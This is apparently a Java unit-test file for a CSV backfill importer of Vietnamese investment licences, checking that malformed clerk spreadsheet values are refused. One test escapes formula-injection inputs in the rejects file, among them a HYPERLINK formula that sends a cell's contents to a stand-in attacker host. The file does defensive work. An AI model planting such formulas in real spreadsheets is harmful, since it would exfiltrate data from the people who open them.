package vn.investledger.producers.backfill;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;

import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.IntRange;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
import static org.assertj.core.api.Assertions.assertThatIllegalStateException;

/**
 * What a clerk's spreadsheet writes that the importer must not read as another value: a
 * land area in a Vietnamese thousands group or an exponent, a decimal comma that moves a
 * number into the next column, a code kept as text the spreadsheet's way, a short event
 * id, a cell of a million digits, a file without its header, and a row that would run as
 * a formula when the rejects file is opened.
 */
class ClerksFilesTests {

	private static final Instant NOW = Instant.parse("2025-10-20T03:00:00Z");

	private static final String HEADER = String.join(",", CsvEvents.COLUMNS) + "\n";

	@ParameterizedTest
	@ValueSource(strings = { "1.500", "22.540", "1.2E+04", "1e3" })
	void shouldRefuseALandAreaWithThreeDecimalsOrAnExponent(String area, @TempDir Path dir) throws IOException {
		CSVRecord row = onlyRow(dir, licence(area, ""));

		assertThatIllegalArgumentException().isThrownBy(() -> CsvEvents.read(row, NOW))
			.withMessageStartingWith("land_area_ha: \"" + area + "\"");
	}

	@Test
	void shouldReadALandAreaWrittenPlainly(@TempDir Path dir) throws IOException {
		CSVRecord row = onlyRow(dir, licence("1500.25", ""));

		assertThat(CsvEvents.read(row, NOW).toString()).contains("1500.25");
	}

	/**
	 * {@code 40,5} unquoted before empty cells makes the row one cell wider than the
	 * header: refused, rather than read as 40 ha and 5 employees.
	 */
	@Test
	void shouldRefuseARowWiderThanTheHeaderEvenWhenTheSurplusIsEmpty(@TempDir Path dir) throws IOException {
		String line = licence("40,5", "");
		try (CsvFile file = CsvFile.open(write(dir, HEADER + line + "\n"))) {
			CsvFile.Row row = file.next();

			assertThat(row.record()).isNull();
			assertThat(row.fault()).contains("cells and the header " + CsvEvents.COLUMNS.length)
				.contains("no decimal comma");
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "=\"0201000005\"", "'0201000006" })
	void shouldRefuseACodeKeptAsTextTheSpreadsheetsWay(String code, @TempDir Path dir) throws IOException {
		CSVRecord row = onlyRow(dir, licence("", "").replaceFirst("0201000001",
				code.replace("\"", "\"\"").replaceFirst("^=\"\"(.*)\"\"$", "\"=\"\"$1\"\"\"")));

		assertThatIllegalArgumentException().isThrownBy(() -> CsvEvents.read(row, NOW))
			.withMessageStartingWith("project_code: \"" + code + "\" is wrapped as a spreadsheet keeps text");
	}

	@ParameterizedTest
	@ValueSource(strings = { "1-1-1-1-1", "0-0-0-0-0", "6f1c2a4e-3b1d-4c8e-9a55-0e4e2b7c9d1",
			"{6f1c2a4e-3b1d-4c8e-9a55-0e4e2b7c9d10}" })
	void shouldRefuseAnEventIdNotInItsThirtySixCharacters(String id, @TempDir Path dir) throws IOException {
		CSVRecord row = onlyRow(dir,
				"disbursed," + id + ",0201111111,3,31,2022-01-15,,FDI,,,,,,,,900000000,USD,,,,,,,,,,");

		assertThatIllegalArgumentException().isThrownBy(() -> CsvEvents.read(row, NOW))
			.withMessageStartingWith("event_id: not a UUID in its 36 characters");
	}

	/** A numeric cell past 40 characters is refused before it is parsed. */
	@Property(tries = 20)
	void shouldRefuseANumberOfMoreThanFortyCharactersUnparsed(@ForAll @IntRange(min = 41, max = 1_000_000) int digits)
			throws IOException {
		Path dir = Files.createTempDirectory("clerk");
		try {
			CSVRecord row = onlyRow(dir,
					"disbursed,,0201111111,3,31,2022-01-15,,FDI,,,,,,,," + "9".repeat(digits) + ",USD,,,,,,,,,,");

			assertThatIllegalArgumentException().isThrownBy(() -> CsvEvents.read(row, NOW))
				.withMessageStartingWith("amount: " + digits + " characters, where a number has at most 40");
		}
		finally {
			try (var files = Files.list(dir)) {
				for (Path file : files.toList()) {
					Files.delete(file);
				}
			}
			Files.delete(dir);
		}
	}

	/**
	 * A file whose first line is a row of data, not the header, is refused whole: its
	 * first row would otherwise be taken for the header and lost, neither sent nor
	 * rejected.
	 */
	@Test
	void shouldRefuseAFileWithoutItsHeader(@TempDir Path dir) throws IOException {
		Path file = write(dir, "disbursed,,0201111111,3,31,2022-01-15,,FDI,,,,,,,,900000000,USD,,,,,,,,,,\n"
				+ "disbursed,,0201111111,4,31,2022-02-15,,FDI,,,,,,,,900000000,USD,,,,,,,,,,\n");

		assertThatIllegalStateException().isThrownBy(() -> CsvFile.open(file).close())
			.withMessageContaining("the header: it names no column \"kind\"")
			.withMessageContaining("nothing of it was sent");
	}

	@ParameterizedTest
	@ValueSource(strings = { "=1+1", "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"Sửa lỗi\")", "@SUM(1+1)", "+1", "-1",
			"\tx" })
	void shouldWriteARejectedRowThatWouldRunAsAFormulaAsText(String raw) {
		assertThat(BackfillImporter.rejectedRowCell(raw)).isEqualTo("'" + raw);
		assertThat(BackfillImporter.rejectedRowCell("licensed," + raw)).isEqualTo("licensed," + raw);
	}

	private static String licence(String area, String employment) {
		String areaCell = area.contains(",") ? area : area;
		return "licensed,,0201000001,1,31,2019-06-12,,FDI,Nhà máy linh kiện,0201000001,0201111111,,LG Display Co. Ltd.|KR,"
				+ "HP-TRANG-DUE,C/26,1500000000,USD,,,,," + areaCell + "," + employment + ",,,,";
	}

	private static CSVRecord onlyRow(Path dir, String line) throws IOException {
		try (CsvFile file = CsvFile.open(write(dir, HEADER + line + "\n"))) {
			CsvFile.Row row = file.next();
			assertThat(row.fault()).as(line).isNull();
			return row.record();
		}
	}

	private static Path write(Path dir, String text) throws IOException {
		Path file = Files.createTempFile(dir, "rows", ".csv");
		Files.writeString(file, text, StandardCharsets.UTF_8);
		return file;
	}

}
